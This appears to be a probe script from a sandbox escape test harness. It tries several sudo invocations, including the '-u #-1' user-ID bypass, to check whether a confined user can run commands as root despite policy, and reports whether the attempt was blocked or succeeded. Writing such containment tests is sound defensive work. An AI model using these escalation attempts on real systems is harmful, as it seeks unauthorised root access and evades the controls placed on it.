# Becomes root by `sudo` where the policy says that nobody may.
# Why it matters: the policy is the only thing between user and root inside.
# When it works: a command runs as root.
# needs: user-only
# control: weakened: sudo
import subprocess

from attempt import blocked, escaped, run


def attempt():
    answers = []
    for command in (["sudo", "-n", "id", "-u"], ["sudo", "-u", "root", "id", "-u"], ["sudo", "-u", "#0", "id", "-u"], ["/.belljar/guest", "sudo", "id", "-u"], ["sudo", "-u", "#-1", "id", "-u"], ["sudo", "-s", "id", "-u"]):
        try:
            answer = subprocess.run(command, capture_output=True, text=True, timeout=30)
        except (OSError, subprocess.TimeoutExpired) as error:
            answers.append(type(error).__name__)
            continue
        if answer.stdout.strip() == "0":
            escaped(f"{' '.join(command)} ran as root")
        answers.append((answer.stderr or answer.stdout).strip()[:60])
    blocked("; ".join(dict.fromkeys(answers)))


run(attempt)
